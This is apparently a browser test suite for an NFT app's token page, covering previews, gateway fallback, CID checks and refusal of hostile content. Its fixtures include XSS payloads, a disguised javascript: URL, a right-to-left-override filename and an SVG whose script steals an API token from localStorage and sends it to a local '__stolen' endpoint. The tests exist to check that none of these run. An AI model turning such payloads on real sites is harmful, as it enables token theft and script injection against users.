// The token page: a collector opens /token/<id> and sees what Minty's
// `show <id>` prints, with the asset previewed, with or without a wallet,
// and hostile metadata shown as text that runs nothing.
import { after, before, describe, it } from 'node:test'
import assert from 'node:assert/strict'
import http from 'node:http'
import { DESKTOP, DEV_ACCOUNTS, PHONE, assertAccessible, openApp, screenshotPath, openSession, closeSession } from './harness.mjs'
import { catPng, mintWith, tokenURI, wav } from './tokens.mjs'
import { dagBomb, uploadCar } from './dag-bomb.mjs'

const PWN = 'window.__pwned=1'
// With the hostile token's four readable traits, more rows than the page shows.
const HOSTILE_EXTRA_ROWS = 300
const ATTRIBUTE_ROWS_SHOWN = 50
const API_TOKEN_KEY = 'minty.token.nft-storage'
const STOLEN_KEY = 'minty.stolen'

/// An SVG whose script, if it ever runs as a document in the app's origin,
/// reads the API token, leaves it in localStorage, marks its window and
/// sends it out: three traces, any one of which the test finds.
function thiefSvg (stack) {
  const steal = `
    const token = localStorage.getItem(${JSON.stringify(API_TOKEN_KEY)});
    localStorage.setItem(${JSON.stringify(STOLEN_KEY)}, String(token));
    window.__pwned = 1;
    fetch(${JSON.stringify(stack.storageUrl + '/__stolen?token=')} + encodeURIComponent(token)).catch(() => {});`
  return `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" viewBox="0 0 64 48">` +
    `<script><![CDATA[${steal}]]></script>` +
    `<rect width="64" height="48" fill="crimson"/><circle cx="32" cy="24" r="16" fill="gold"/></svg>`
}

async function waitUntil (condition, timeout = 30000) {
  const deadline = Date.now() + timeout
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`not within ${timeout} ms: ${condition}`)
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
}

/// A gateway on loopback that is down in one of two ways: it answers every
/// request with HTTP 500 (`fail`), or takes the request and never answers
/// (`hang`). It counts what it was asked for, and the requests the
/// browser gave up on before an answer.
async function deadGateway (mode) {
  const requests = []
  const abandoned = []
  const sockets = new Set()
  const server = http.createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`)
    response.on('close', () => { if (!response.writableEnded) abandoned.push(request.url) })
    if (mode === 'fail') {
      response.writeHead(500, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' })
      response.end('gateway down')
    }
  })
  server.on('connection', (socket) => { sockets.add(socket); socket.on('close', () => sockets.delete(socket)) })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${server.address().port}/ipfs/`,
    requests,
    abandoned,
    close () {
      for (const socket of sockets) socket.destroy()
      return new Promise((resolve) => server.close(resolve))
    }
  }
}

/// A gateway on loopback in front of `target` (a path gateway) that answers
/// raw block requests (`?format=raw`) with something else, as gateways
/// without trustless support do, until `serveRaw(true)`.
async function noRawGateway (target) {
  let serveRaw = false
  const server = http.createServer(async (request, response) => {
    const cors = { 'access-control-allow-origin': '*' }
    if (request.url.includes('format=raw') && !serveRaw) {
      response.writeHead(200, { ...cors, 'content-type': 'text/plain' })
      response.end('no raw blocks here')
      return
    }
    const answer = await fetch(target + request.url.replace(/^\/ipfs\//, ''), { method: request.method })
    const headers = { ...cors }
    for (const name of ['content-type', 'content-length']) {
      if (answer.headers.get(name)) headers[name] = answer.headers.get(name)
    }
    response.writeHead(answer.status, headers)
    response.end(Buffer.from(await answer.arrayBuffer()))
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${server.address().port}/ipfs/`,
    serveRaw (on) { serveRaw = on },
    close () {
      server.closeAllConnections()
      return new Promise((resolve) => server.close(resolve))
    }
  }
}

describe('token page: viewing a token', () => {
  let stack
  let browser
  const tokens = {}

  before(async () => {
    ({ stack, browser } = await openSession())
    tokens.cat = await mintWith(stack, {
      asset: { name: 'cat.png', bytes: catPng(), type: 'image/png' },
      metadata: (image) => ({ name: 'Mint the cat', description: 'A cat, on IPFS.\nMinted from a test.', image })
    })
    tokens.text = await mintWith(stack, {
      asset: { name: 'poem.txt', bytes: Buffer.from('Roses are <b>red</b>,\nCIDs are forever.\n'), type: 'text/plain' },
      metadata: (uri) => ({ name: 'A poem', animation_url: uri })
    })
    tokens.song = await mintWith(stack, {
      asset: { name: 'tone.wav', bytes: wav(), type: 'audio/wav' },
      metadata: (uri) => ({ name: 'A tone', description: '440 Hz', animation_url: uri })
    })
    tokens.hostile = await mintWith(stack, {
      metadata: {
        name: `<script>${PWN}</script>`,
        description: `<img src=x onerror="${PWN}">`,
        image: `javascript:${PWN}`,
        animation_url: `data:text/html,<script>${PWN}</script>`,
        external_url: `  JaVa\tScRiPt:${PWN}`,
        attributes: [
          { trait_type: `<img src=x onerror="${PWN}">`, value: `<script>${PWN}</script>` },
          { trait_type: 'Level', value: 7 },
          { value: 'A property with no type' },
          { trait_type: 'Huge', value: 'W'.repeat(100000) },
          // Not a trait with a text or number value: left out, and counted.
          { trait_type: 'Nested', value: { html: `<b>${PWN}</b>` } },
          { trait_type: { html: '<b>typed by an object</b>' }, value: 'x' },
          { trait_type: 'Missing' },
          `<b>${PWN}</b>`,
          ...Array.from({ length: HOSTILE_EXTRA_ROWS }, (_, i) => ({ trait_type: `Row ${i}`, value: i }))
        ]
      }
    })
    tokens.svg = await mintWith(stack, {
      asset: {
        name: 'trap.svg',
        bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>${PWN}</script><rect width="64" height="64" fill="teal"/></svg>`),
        type: 'image/svg+xml'
      },
      metadata: (image) => ({ name: 'Scripted SVG', image })
    })
    tokens.thief = await mintWith(stack, {
      asset: { name: 'thief.svg', bytes: Buffer.from(thiefSvg(stack)), type: 'image/svg+xml' },
      metadata: (image) => ({ name: 'An SVG that steals', image })
    })
    tokens.page = await mintWith(stack, {
      asset: { name: 'page.html', bytes: Buffer.from(`<script>${PWN}</script>`), type: 'text/html' },
      metadata: (uri) => ({ name: 'A web page', animation_url: uri })
    })
    tokens.broken = await mintWith(stack, { metadata: '{"name": "cut off' })
    // About 700 kB: a file node over three 256 KiB leaves.
    tokens.long = await mintWith(stack, {
      asset: { name: 'long.txt', bytes: Buffer.from('All work and no play. '.repeat(32000)), type: 'text/plain' },
      metadata: (uri) => ({ name: 'A long text', animation_url: uri })
    })
    tokens.disguised = await mintWith(stack, {
      metadata: {
        // Without a mark, the override shows "gnp.exe" backwards, as "exe.png".
        name: `Ape #1 \u202Egnp.exe${' and a very long name'.repeat(10)}`,
        description: 'Bored\u200BApe \u{1F469}\u200D\u{1F680}'
      }
    })
    // Two DAG bombs of 2,000 links to one 1 MiB leaf: one declares the
    // 2,000 MiB it expands to, the other claims 2,000 bytes.
    for (const [key, honest] of [['bomb', true], ['lyingBomb', false]]) {
      const { root, leaf, car } = await dagBomb({ honest })
      assert.equal(await uploadCar(stack, car), root)
      tokens[key] = await mintWith(stack, { metadata: { name: `A DAG bomb (${key})`, image: `ipfs://${root}` } })
      Object.assign(tokens[key], { root, leaf })
    }
  })

  after(() => closeSession({ stack, browser }))

  async function openToken (id, options = {}) {
    const page = await openApp(browser, stack, { path: `/token/${id}`, ...options })
    await page.locator('[data-testid="token-owner"], [data-testid="no-such-token"], [data-testid="token-error"]').first().waitFor()
    return page
  }

  const text = (page, testid) => page.getByTestId(testid).innerText()

  it('shows a PNG token: image, name, description, owner and tokenURI', async () => {
    const { id, assetCid, metadataCid } = tokens.cat
    for (const [name, viewport] of [['desktop', DESKTOP], ['phone', PHONE]]) {
      const page = await openToken(id, { viewport })
      assert.equal(await text(page, 'token-name'), 'Mint the cat')
      assert.equal(await text(page, 'token-description'), 'A cat, on IPFS.\nMinted from a test.')
      assert.equal((await text(page, 'token-owner')).toLowerCase(), DEV_ACCOUNTS[0].toLowerCase())
      assert.equal(await text(page, 'token-uri'), await tokenURI(stack, id))
      assert.equal(await text(page, 'token-uri'), `ipfs://${metadataCid}/metadata.json`)
      assert.equal(await page.getByTestId('metadata-url').getAttribute('href'), `${stack.storageUrl}/ipfs/${metadataCid}/metadata.json`)
      assert.equal(await page.getByTestId('asset-url').getAttribute('href'), `${stack.storageUrl}/ipfs/${assetCid}/cat.png`)
      // The local gateway serves raw blocks, so the metadata was checked against its CID.
      assert.equal(await page.getByTestId('metadata-verified').getAttribute('data-verified'), 'true')
      await page.waitForFunction(() => document.querySelector('[data-testid="asset-image"]')?.naturalWidth > 0)
      // Shown from bytes checked against the asset's CID, not from the gateway.
      assert.match(await page.getByTestId('asset-image').getAttribute('src'), /^blob:/)
      assert.equal(await page.getByTestId('asset-verified').getAttribute('data-verified'), 'true')
      await page.screenshot({ path: screenshotPath(`token-${name}`), fullPage: true })
      await assertAccessible(page, `a PNG token (${name})`)
      assert.deepEqual(page.pageErrors, [])
      await page.context().close()
    }
  })

  it('reads through the wallet once it is connected on the app\'s chain', async () => {
    const page = await openToken(tokens.cat.id)
    assert.ok(!(await page.evaluate(() => window.__testWallet.requests())).includes('eth_call'))
    await page.getByTestId('connect-wallet').click()
    await page.waitForFunction(() => window.__testWallet.requests().includes('eth_call'))
    await page.waitForLoadState('networkidle')
    assert.equal(await text(page, 'token-name'), 'Mint the cat')
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('previews a text asset as text and a WAV with an audio player', async () => {
    const poem = await openToken(tokens.text.id)
    await poem.getByTestId('asset-text').waitFor()
    assert.equal((await text(poem, 'asset-text')).trimEnd(), 'Roses are <b>red</b>,\nCIDs are forever.')
    assert.equal(await poem.locator('[data-testid="asset-text"] b').count(), 0)
    await poem.screenshot({ path: screenshotPath('token-text-desktop'), fullPage: true })
    await assertAccessible(poem, 'a text token')
    await poem.context().close()

    const song = await openToken(tokens.song.id)
    const audio = song.getByTestId('asset-audio')
    await audio.waitFor()
    assert.match(await audio.getAttribute('src'), /^blob:/)
    // HAVE_METADATA: the browser decoded the WAV's header.
    await song.waitForFunction(() => document.querySelector('[data-testid="asset-audio"]').readyState >= 1)
    assert.equal(await song.getByTestId('asset-image').count(), 0)
    await song.screenshot({ path: screenshotPath('token-audio-desktop'), fullPage: true })
    await assertAccessible(song, 'an audio token')
    assert.deepEqual(song.pageErrors, [])
    await song.context().close()
  })

  it('checks an asset of several blocks, its leaves fetched together, and previews it', async () => {
    const page = await openToken(tokens.long.id)
    await page.getByTestId('asset-text').waitFor()
    assert.equal(await page.getByTestId('asset-verified').getAttribute('data-verified'), 'true')
    assert.match(await text(page, 'asset-text'), /^All work and no play\. All work/)
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('a DAG bomb is refused within its budget: the page stays alive and the leaf is hardly fetched', async () => {
    for (const [bomb, shown] of [[tokens.bomb, 'unchecked'], [tokens.lyingBomb, /blocks do not add up/]]) {
      const page = await openToken(bomb.id)
      assert.match(await text(page, 'token-name'), /A DAG bomb/)
      await page.locator('[data-testid="asset-error"], [data-testid="asset-verified"]').first().waitFor({ timeout: 30000 })
      if (shown === 'unchecked') {
        // Too large to check: left to the gateway (whose own budget refuses
        // it), marked as not checked, and not refused as malformed.
        assert.equal(await page.getByTestId('asset-verified').getAttribute('data-verified'), 'false')
        for (const refusal of await page.getByTestId('asset-error').allInnerTexts()) assert.doesNotMatch(refusal, /malformed/)
      } else {
        assert.match(await text(page, 'asset-error'), shown)
      }
      const leafFetches = await page.evaluate((leaf) =>
        performance.getEntriesByType('resource').filter((entry) => entry.name.includes(leaf)).length, bomb.leaf)
      assert.ok(leafFetches <= 1, `the 1 MiB leaf was fetched ${leafFetches} times`)
      if (shown === 'unchecked') await page.screenshot({ path: screenshotPath('token-dag-bomb'), fullPage: true })
      await assertAccessible(page, `a DAG bomb (${shown})`)
      // Alive: the app still routes and renders another token.
      await page.evaluate((id) => { history.pushState(null, '', `/token/${id}`); dispatchEvent(new PopStateEvent('popstate')) }, tokens.cat.id)
      await page.getByTestId('token-name').filter({ hasText: 'Mint the cat' }).waitFor({ timeout: 30000 })
      assert.deepEqual(page.pageErrors, [])
      await page.context().close()
    }
    // The gateway survived both, and still serves.
    const asset = await fetch(`${stack.storageUrl}/ipfs/${tokens.cat.assetCid}/cat.png`)
    assert.equal(asset.status, 200)
  })

  it('offers media it does not preview, such as HTML, as a download only', async () => {
    const page = await openToken(tokens.page.id)
    const download = page.getByTestId('asset-download')
    await download.waitFor()
    assert.equal(await download.getAttribute('href'), `${stack.storageUrl}/ipfs/${tokens.page.assetCid}/page.html`)
    assert.equal(await page.locator('main iframe, main object, main embed, [data-testid="asset-text"]').count(), 0)
    await assertAccessible(page, 'a token offered as a download')
    assert.equal(await page.evaluate(() => window.__pwned), undefined)
    await page.context().close()
  })

  it('renders through the RPC URL when no wallet is installed', async () => {
    const page = await openToken(tokens.cat.id, { wallet: false })
    await page.getByTestId('no-wallet').waitFor()
    assert.equal(await text(page, 'token-name'), 'Mint the cat')
    assert.equal((await text(page, 'token-owner')).toLowerCase(), DEV_ACCOUNTS[0].toLowerCase())
    await page.waitForFunction(() => document.querySelector('[data-testid="asset-image"]')?.naturalWidth > 0)
    await assertAccessible(page, 'a token without a wallet')
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('shows hostile metadata as text and follows none of its unsafe links', async () => {
    const page = await openToken(tokens.hostile.id)
    // Whatever the page would load or run has had its chance.
    await page.waitForLoadState('networkidle')
    assert.equal(await page.evaluate(() => window.__pwned), undefined)
    assert.equal(await text(page, 'token-name'), `<script>${PWN}</script>`)
    assert.equal(await text(page, 'token-description'), `<img src=x onerror="${PWN}">`)
    // The javascript: image, the data: animation and the disguised
    // javascript: external URL are refused, visibly.
    assert.equal(await page.getByTestId('unsafe-link').count(), 3)
    assert.match(await page.getByTestId('unsafe-link').first().innerText(), /not followed/i)
    assert.equal(await text(page, 'asset-url'), `data:text/html,<script>${PWN}</script>`)
    const externalUrl = page.getByTestId('external-url')
    assert.equal(await externalUrl.evaluate((element) => element.tagName), 'SPAN')
    assert.equal(await externalUrl.textContent(), `  JaVa\tScRiPt:${PWN}`, 'shown as written, not as a link')
    // Attributes: trait types and values as text, the first rows only, the
    // unreadable ones counted, a huge value cut, and nothing wider than the page.
    const table = page.getByRole('table', { name: 'Attributes' })
    const rows = table.getByTestId('attribute')
    assert.equal(await rows.count(), ATTRIBUTE_ROWS_SHOWN)
    assert.equal(await rows.first().getByTestId('attribute-trait-type').textContent(), `<img src=x onerror="${PWN}">`)
    assert.equal(await rows.first().getByTestId('attribute-value').textContent(), `<script>${PWN}</script>`)
    assert.deepEqual(await rows.nth(1).getByTestId('attribute-value').allTextContents(), ['7'])
    assert.equal(await rows.nth(2).getByTestId('attribute-trait-type').textContent(), 'No trait type')
    const huge = rows.nth(3).getByTestId('attribute-value')
    assert.ok((await huge.textContent()).length < 300, 'a huge value is cut')
    assert.equal(await huge.getByTestId('show-more').count(), 1)
    assert.match(await text(page, 'attributes-more'), new RegExp(`^${4 + HOSTILE_EXTRA_ROWS - ATTRIBUTE_ROWS_SHOWN} more attributes are not shown`))
    assert.match(await text(page, 'attributes-unreadable'), /^4 attributes are not a trait with a text or number value/)
    assert.equal(await table.locator('b, img, script').count(), 0)
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth), 'nothing wider than the screen')
    const followed = page.locator([
      'a[href^="javascript:" i]', 'a[href^="data:" i]', 'a[href*="script:" i]', '[src^="javascript:" i]', '[src^="data:" i]',
      'iframe', 'object', 'embed', 'main script', 'main img[src="x"]'
    ].join(', '))
    assert.equal(await followed.count(), 0)
    assert.equal(await page.evaluate(() => window.__pwned), undefined)
    await page.screenshot({ path: screenshotPath('token-hostile-desktop'), fullPage: true })
    await assertAccessible(page, 'the hostile-metadata token')
    await page.context().close()

    const svg = await openToken(tokens.svg.id)
    await svg.waitForFunction(() => document.querySelector('[data-testid="asset-image"]')?.naturalWidth > 0)
    assert.equal(await svg.getByTestId('asset-image').evaluate((image) => image.tagName), 'IMG')
    await assertAccessible(svg, 'an SVG token')
    assert.equal(await svg.evaluate(() => window.__pwned), undefined)
    assert.deepEqual(svg.pageErrors, [])
    await svg.context().close()
  })

  it('runs no script in the app\'s origin when a checked SVG preview is opened in a tab of its own', async () => {
    const page = await openToken(tokens.thief.id)
    await page.evaluate(([key]) => localStorage.setItem(key, 'secret-api-token'), [API_TOKEN_KEY])
    await page.waitForFunction(() => document.querySelector('[data-testid="asset-image"]')?.naturalWidth > 0)
    const preview = page.getByTestId('asset-image')
    const src = await preview.getAttribute('src')
    const verified = await page.getByTestId('asset-verified').getAttribute('data-verified')
    await page.screenshot({ path: screenshotPath('token-svg-desktop'), fullPage: true })
    // "Open image in new tab": the preview's own URL, in a tab of the same browser.
    const requests = []
    page.context().on('request', (request) => requests.push(request.url()))
    const tab = await page.context().newPage()
    await tab.goto(src)
    await tab.waitForLoadState('load')
    // A fetch the script started has had time to leave.
    await tab.waitForTimeout(500)
    const traces = {
      window: await tab.evaluate(() => window.__pwned),
      localStorage: await page.evaluate(([key]) => localStorage.getItem(key), [STOLEN_KEY]),
      requests: requests.filter((url) => url.includes('/__stolen'))
    }
    assert.deepEqual(traces, { window: undefined, localStorage: null, requests: [] }, `the SVG's script ran from ${src}`)
    // Either drawn to a picture from the checked bytes, or the gateway's own
    // document, said to be unchecked: never the SVG as a blob of this origin.
    if (src.startsWith('blob:')) {
      assert.equal(verified, 'true')
      assert.equal(await tab.evaluate(() => document.contentType), 'image/png')
    } else {
      assert.equal(src, `${stack.storageUrl}/ipfs/${tokens.thief.assetCid}/thief.svg`)
      assert.equal(verified, 'false')
    }
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('refuses metadata from a gateway that alters it, naming the CID', async () => {
    await stack.storageSwitch('corrupt-gateway', true)
    try {
      const page = await openToken(tokens.cat.id)
      await page.getByTestId('metadata-error').waitFor()
      assert.match(await text(page, 'metadata-error'), /do not match the CID baf[a-z0-9]+/)
      // Nothing from the altered document is shown as the token's.
      const names = await page.getByTestId('token-name').allInnerTexts()
      assert.ok(!names.includes('Mint the cat'), `shown: ${names}`)
      await assertAccessible(page, 'a token whose metadata was altered')
      await page.context().close()
    } finally {
      await stack.storageSwitch('corrupt-gateway', false)
    }
  })

  // Only loopback gateways here: the stack presets its own gateway as the
  // fallback, so no test ever reaches the internet.
  for (const mode of ['fail', 'hang']) {
    it(`falls back to the next gateway when the configured one ${mode === 'fail' ? 'answers 500' : 'hangs'}, and names the one that answered`, async () => {
      const dead = await deadGateway(mode)
      const local = `${stack.storageUrl}/ipfs/`
      try {
        const page = await openApp(browser, stack, { path: '/settings' })
        await page.evaluate(({ dead, local }) => {
          localStorage.setItem('minty.gateway', dead)
          localStorage.setItem('minty.gateway_fallbacks', local)
        }, { dead: dead.url, local })
        await page.goto(`${stack.appUrl}/token/${tokens.cat.id}`)
        // A hung gateway is given up on after its timeout.
        const patience = { timeout: 60000 }
        await page.getByTestId('token-name').waitFor(patience)
        assert.equal(await text(page, 'token-name'), 'Mint the cat')
        assert.equal(await page.getByTestId('metadata-verified').getAttribute('data-verified'), 'true')
        assert.match(await text(page, 'metadata-gateway'), new RegExp(`Served by ${local}`))
        await page.waitForFunction(() => document.querySelector('[data-testid="asset-image"]')?.naturalWidth > 0, null, patience)
        assert.equal(await page.getByTestId('asset-verified').getAttribute('data-verified'), 'true')
        assert.match(await text(page, 'asset-gateway'), new RegExp(`Served by ${local}`))
        // The configured gateway was asked first, for the metadata's root block.
        assert.match(dead.requests[0], new RegExp(`^GET /ipfs/${tokens.cat.metadataCid}\\?format=raw`))
        if (mode === 'fail') {
          // A 500 is retried, with a pause, before the next gateway is tried.
          assert.ok(dead.requests.filter((r) => r === dead.requests[0]).length >= 2, dead.requests.join('\n'))
        }
        assert.deepEqual(page.pageErrors, [])
        await page.screenshot({ path: screenshotPath(`token-gateway-${mode}-desktop`), fullPage: true })
        await assertAccessible(page, `a token from a fallback gateway (${mode})`)
        await page.context().close()
      } finally {
        await dead.close()
      }
    })
  }

  it('aborts a request to a hung gateway when the user leaves the token page', async () => {
    const dead = await deadGateway('hang')
    try {
      const page = await openApp(browser, stack, { path: '/settings' })
      await page.evaluate((url) => {
        localStorage.setItem('minty.gateway', url)
        localStorage.setItem('minty.gateway_fallbacks', 'none')
      }, dead.url)
      await page.goto(`${stack.appUrl}/token/${tokens.cat.id}`)
      await waitUntil(() => dead.requests.length > 0)
      const left = Date.now()
      await page.getByRole('link', { name: 'Home', exact: true }).click()
      await page.waitForURL(`${stack.appUrl}/`)
      // Well before the request's own 15 s timeout.
      await waitUntil(() => dead.abandoned.length > 0, 5000)
      assert.ok(Date.now() - left < 5000)
      assert.deepEqual(page.pageErrors, [])
      await page.context().close()
    } finally {
      await dead.close()
    }
  })

  it('shows a token unchecked from a gateway without raw blocks, checks it on "Retry verified", and revokes blob URLs it let go of', async () => {
    const gateway = await noRawGateway(`${stack.storageUrl}/ipfs/`)
    try {
      const page = await openApp(browser, stack, { path: '/settings' })
      await page.evaluate((url) => {
        localStorage.setItem('minty.gateway', url)
        localStorage.setItem('minty.gateway_fallbacks', 'none')
      }, gateway.url)
      await page.goto(`${stack.appUrl}/token/${tokens.cat.id}`)
      const marker = page.getByTestId('asset-verified')
      await marker.waitFor()
      assert.equal(await marker.getAttribute('data-verified'), 'false')
      assert.equal(await page.getByTestId('asset-image').getAttribute('src'), `${gateway.url}${tokens.cat.assetCid}/cat.png`)
      await assertAccessible(page, 'an unchecked token offering "Retry verified"')

      gateway.serveRaw(true)
      await page.getByTestId('retry-verified').click()
      await page.waitForFunction(() => document.querySelector('[data-testid="asset-verified"]')?.dataset.verified === 'true')
      const blob = await page.getByTestId('asset-image').getAttribute('src')
      assert.match(blob, /^blob:/)
      await page.waitForFunction(() => document.querySelector('[data-testid="asset-image"]')?.naturalWidth > 0)
      assert.equal(await page.getByTestId('retry-verified').count(), 0)
      assert.match(await text(page, 'asset-gateway'), new RegExp(`Served by ${gateway.url}`))

      // Loaded as an image: the page's CSP allows blob: images but not
      // fetch() of blob: URLs.
      const readable = (url) => page.evaluate((url) => new Promise((resolve) => {
        const probe = new Image()
        probe.onload = () => resolve(true)
        probe.onerror = () => resolve(false)
        probe.src = url
      }), url)
      assert.equal(await readable(blob), true)

      // The metadata was read unchecked too; read again, it is checked,
      // and the preview it replaces lets go of its blob.
      assert.equal(await page.getByTestId('metadata-verified').getAttribute('data-verified'), 'false')
      await page.getByTestId('retry-metadata-verified').click()
      await page.waitForFunction(() => document.querySelector('[data-testid="metadata-verified"]')?.dataset.verified === 'true')
      assert.match(await text(page, 'metadata-gateway'), new RegExp(`Served by ${gateway.url}`))
      await page.waitForFunction((old) => {
        const src = document.querySelector('[data-testid="asset-image"]')?.getAttribute('src')
        return src?.startsWith('blob:') && src !== old
      }, blob)
      assert.equal(await readable(blob), false)
      const again = await page.getByTestId('asset-image').getAttribute('src')
      assert.equal(await readable(again), true)

      // Leaving the token page inside the app keeps the document, but not the blob.
      await page.getByRole('link', { name: 'Home', exact: true }).click()
      await page.waitForURL(`${stack.appUrl}/`)
      assert.equal(await readable(again), false)
      assert.deepEqual(page.pageErrors, [])
      await page.context().close()
    } finally {
      await gateway.close()
    }
  })

  it('shows the error next to the link when the metadata is not valid JSON', async () => {
    const page = await openToken(tokens.broken.id)
    await page.getByTestId('metadata-error').waitFor()
    assert.match(await text(page, 'metadata-error'), /not valid NFT metadata/)
    assert.equal(
      await page.getByTestId('metadata-url').getAttribute('href'),
      `${stack.storageUrl}/ipfs/${tokens.broken.metadataCid}/metadata.json`
    )
    assert.equal((await text(page, 'token-owner')).toLowerCase(), DEV_ACCOUNTS[0].toLowerCase())
    await assertAccessible(page, 'a token whose metadata is not JSON')
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('says "No such token" for an id never minted, through the RPC URL and the wallet', async () => {
    const page = await openToken(999, { viewport: PHONE })
    assert.match(await text(page, 'no-such-token'), /No such token/)
    await page.screenshot({ path: screenshotPath('token-missing-phone'), fullPage: true })
    await assertAccessible(page, 'no such token (phone)')
    await page.getByTestId('connect-wallet').click()
    await page.waitForFunction(() => window.__testWallet.requests().includes('eth_call'))
    await page.waitForLoadState('networkidle')
    await page.getByTestId('no-such-token').waitFor()
    assert.equal(await page.getByTestId('token-error').count(), 0)
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('explains that a non-numeric id is not a token id', async () => {
    const page = await openToken('cat')
    assert.match(await text(page, 'token-error'), /"cat" is not a token id.*whole numbers/)
    await assertAccessible(page, 'a token id that is not a number')
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('marks hidden bidi controls and zero-width characters, and cuts a long name with "Show more"', async () => {
    const page = await openToken(tokens.disguised.id)
    const name = page.getByTestId('token-name')
    assert.equal(await name.getAttribute('dir'), 'auto')
    assert.equal(await name.evaluate((h1) => getComputedStyle(h1).unicodeBidi), 'isolate')
    const override = name.getByTestId('invisible-char')
    assert.equal(await override.innerText(), 'RLO')
    assert.equal(await override.getAttribute('title'), 'U+202E RIGHT-TO-LEFT OVERRIDE')
    // The control itself is not in the page, so it reorders nothing.
    assert.ok(!(await name.textContent()).includes('\u202E'))
    assert.ok((await name.innerText()).length < 200)
    await name.getByTestId('show-more').click()
    assert.match(await name.innerText(), /( and a very long name){10}$/)
    assert.equal(await name.getByTestId('show-more').count(), 0)
    const description = page.getByTestId('token-description')
    assert.deepEqual(await description.getByTestId('invisible-char').allInnerTexts(), ['ZWSP'])
    // The joiner inside the astronaut emoji is left alone.
    assert.ok((await description.textContent()).includes('\u{1F469}\u200D\u{1F680}'))
    await page.screenshot({ path: screenshotPath('token-disguised-desktop'), fullPage: true })
    await assertAccessible(page, 'a token with a disguised name')
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })

  it('renders the same token again after a reload', async () => {
    const page = await openToken(tokens.cat.id)
    await page.reload()
    await page.getByTestId('token-name').waitFor()
    assert.equal(await text(page, 'token-name'), 'Mint the cat')
    assert.equal(new URL(page.url()).pathname, `/token/${tokens.cat.id}`)
    assert.deepEqual(page.pageErrors, [])
    await page.context().close()
  })
})
